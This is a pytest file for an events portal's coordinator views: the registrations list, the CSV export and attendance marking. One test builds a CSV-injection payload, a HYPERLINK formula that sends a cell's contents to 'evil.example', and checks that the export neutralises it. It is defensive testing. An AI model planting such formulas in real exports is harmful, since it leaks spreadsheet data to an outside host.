"""Coordinators' view of who registered (page and CSV) and the register on the day."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import sqlalchemy as sa

from portal.db import utcnow
from portal.events import services
from portal.events.models import Registration
from portal.security.audit import AuditEvent
from tests.conftest import submit, text_of
from tests.events.test_manage_events import register
from tests.factories import make_agency, make_event, make_user


def audited(db, action: str) -> int:
    return db.scalar(sa.select(sa.func.count()).select_from(AuditEvent).where(AuditEvent.action == action)) or 0


# Registrations ----------------------------------------------------------------------------------------


def test_registrations_show_places_waiting_list_and_cancellations_with_access_needs(
    app, as_coordinator, db, coordinator
):
    event = make_event(db, coordinator=coordinator, capacity=2)
    health = make_agency(db, "Northshire Community Health")
    first = make_user(db, name="Amira Patel", agency=health)
    second = make_user(db, name="Ben Okafor")
    waiting = [make_user(db, name=f"Waiting {number}") for number in (1, 2)]
    register(db, app, event, first, access_needs="Step-free access, please")
    register(db, app, event, second)
    for person in waiting:
        register(db, app, event, person)
    leaver = make_user(db, name="Cara Leaver")
    register(db, app, event, leaver)
    with app.test_request_context():
        services.cancel_registration(db, event.id, leaver)
        db.commit()

    response = as_coordinator.get(f"/events/{event.id}/registrations")
    words = text_of(response.text)
    assert "2 of 2 places taken, 2 on the waiting list" in words
    assert "1 Amira Patel Northshire Community Health" in words
    assert "Step-free access, please" in words
    assert words.index("Amira Patel") < words.index("Ben Okafor") < words.index("Waiting 1")
    assert "On the waiting list Position" in words
    assert "1 Waiting 1" in words and "2 Waiting 2" in words
    assert words.index("Cancelled") < words.index("Cara Leaver")
    assert audited(db, "event.registrations_viewed") == 1


def test_the_csv_is_an_attachment_with_formulas_neutralised_and_is_audited(app, as_coordinator, db, coordinator):
    event = make_event(db, coordinator=coordinator, capacity=5)
    attacker = make_user(db, name='=HYPERLINK("https://evil.example/?leak="&A1,"Click")')
    register(db, app, event, attacker, access_needs="+44 call me first")
    register(db, app, event, make_user(db, name="Dee Jones"), access_needs="-2 steps at the door")
    register(db, app, event, make_user(db, name="@SUM(1+1)"))

    response = as_coordinator.get(f"/events/{event.id}/registrations.csv")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert rows[0][:3] == ["Status", "Waiting list position", "Name"]
    names = [row[2] for row in rows[1:]]
    assert names == ['\'=HYPERLINK("https://evil.example/?leak="&A1,"Click")', "Dee Jones", "'@SUM(1+1)"]
    needs = [row[6] for row in rows[1:]]
    assert needs == ["'+44 call me first", "'-2 steps at the door", ""]
    assert all(row[0] == "Place confirmed" for row in rows[1:])
    assert audited(db, "event.registrations_exported") == 1


# The register on the day --------------------------------------------------------------------------------


def started_event(db, app, coordinator, *, people: int, capacity: int | None = None):
    """An event that began an hour ago, with ``people`` registered the week before."""
    starts_at = (utcnow() - timedelta(hours=1)).replace(microsecond=0)
    event = make_event(db, coordinator=coordinator, starts_at=starts_at, capacity=capacity or people)
    persons = [make_user(db, name=f"Person on the register {number}") for number in range(people)]
    for person in persons:
        register(db, app, event, person, now=starts_at - timedelta(days=7))
    return event, persons


def registration_for(db, event, person) -> Registration:
    return db.scalars(
        sa.select(Registration).where(Registration.event_id == event.id, Registration.user_id == person.id)
    ).one()


def test_the_register_opens_on_the_day_of_the_event(app, as_coordinator, db, coordinator):
    event = make_event(db, coordinator=coordinator, starts_at=utcnow() + timedelta(days=10))
    register(db, app, event, make_user(db))
    page = as_coordinator.get(f"/events/{event.id}/attendance")
    assert "You can take the register from the day of the event" in text_of(page.text)
    response = submit(as_coordinator, f"/events/{event.id}/attendance/all", {}, page=f"/events/{event.id}")
    assert "You can take the register from the day of the event" in text_of(
        as_coordinator.get(response.headers["Location"]).text
    )
    assert db.scalar(sa.select(Registration.attendance).where(Registration.event_id == event.id)) is None


def test_marking_people_one_by_one_then_everyone_else(app, as_coordinator, db, coordinator):
    event, (came, stayed_away, also_came) = started_event(db, app, coordinator, people=3)
    waiting = make_user(db, name="Someone waiting")
    with app.test_request_context():
        # Someone on the waiting list is not on the register.
        db.add(Registration(event_id=event.id, user_id=waiting.id, status="waiting", queue_number=99))
        db.commit()
    url = f"/events/{event.id}/attendance"
    page = as_coordinator.get(url)
    words = text_of(page.text)
    assert "3 people have a place: 0 attended, 0 did not attend, 3 not marked yet" in words
    assert "Someone waiting" not in words

    submit(as_coordinator, url, {"registration": registration_for(db, event, came).id, "attendance": "attended"})
    response = submit(
        as_coordinator, url, {"registration": registration_for(db, event, stayed_away).id, "attendance": "no_show"}
    )
    assert response.status_code == 302
    words = text_of(as_coordinator.get(url).text)
    assert "1 attended, 1 did not attend, 1 not marked yet" in words
    assert "Attendance rate: 50%" in words
    assert "Person on the register 1 None Did not attend" in words
    assert audited(db, "event.attendance_recorded") == 2

    done = submit(as_coordinator, f"/events/{event.id}/attendance/all", {}, page=url)
    assert "1 person marked as attended" in text_of(as_coordinator.get(done.headers["Location"]).text)
    marks = {person.id: registration_for(db, event, person).attendance for person in (came, stayed_away, also_came)}
    assert marks == {came.id: "attended", stayed_away.id: "no_show", also_came.id: "attended"}
    recorded = registration_for(db, event, also_came)
    assert recorded.attendance_recorded_by_id == coordinator.id and recorded.attendance_recorded_at is not None
    words = text_of(as_coordinator.get(url).text)
    assert "Attendance rate: 67%" in words
    assert "Mark everyone not yet marked as attended" not in words

    # A mark can be corrected.
    submit(as_coordinator, url, {"registration": registration_for(db, event, stayed_away).id, "attendance": "attended"})
    assert registration_for(db, event, stayed_away).attendance == "attended"


def test_only_people_with_a_place_at_this_event_can_be_marked(app, as_coordinator, db, coordinator):
    event, _ = started_event(db, app, coordinator, people=1)
    other, (elsewhere,) = started_event(db, app, coordinator, people=1)
    url = f"/events/{event.id}/attendance"
    response = submit(
        as_coordinator, url, {"registration": registration_for(db, other, elsewhere).id, "attendance": "attended"}
    )
    assert "Only people with a place can be marked on the register" in text_of(
        as_coordinator.get(response.headers["Location"]).text
    )
    assert registration_for(db, other, elsewhere).attendance is None
    nonsense = submit(as_coordinator, url, {"registration": "abc", "attendance": "maybe"})
    assert nonsense.status_code == 302


def test_the_register_is_not_taken_for_drafts_or_cancelled_events(app, as_coordinator, db, coordinator):
    draft = make_event(db, coordinator=coordinator, starts_at=utcnow() - timedelta(hours=1), publish=False)
    assert "once the event is published" in text_of(as_coordinator.get(f"/events/{draft.id}/attendance").text)
    event, _ = started_event(db, app, coordinator, people=1)
    with app.test_request_context():
        services.cancel_event(db, event.id, actor=coordinator, reason="Fire alarm")
        db.commit()
    assert "there is no register to take" in text_of(as_coordinator.get(f"/events/{event.id}/attendance").text)
